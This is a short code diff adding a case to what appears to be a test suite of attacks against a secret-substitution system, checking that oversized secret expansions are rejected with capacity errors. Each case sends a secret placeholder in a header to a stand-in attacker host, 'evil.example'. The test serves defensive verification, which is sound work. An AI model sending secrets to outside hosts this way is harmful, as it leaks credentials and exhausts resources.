@@ -119,6 +119,10 @@ const values: readonly Attack[] = [
     env: [fromSecret('A', 'mine', 'large')],
   }),
   attack('whole-memory', ['Programmed=False/CapacityExceeded', /more than 16384 characters/], {
+    ...to('https://evil.example/', { 'X-A': ['${A}'.repeat(256)] }),
+    env: [fromSecret('A', 'mine', 'large')],
+  }),
+  attack('whole-time', ['Programmed=False/CapacityExceeded', /more than 256 references/], {
     ...to('https://evil.example/', { 'X-A': ['${A}'.repeat(1_024)] }),
     env: [fromSecret('A', 'mine', 'large')],
   }),
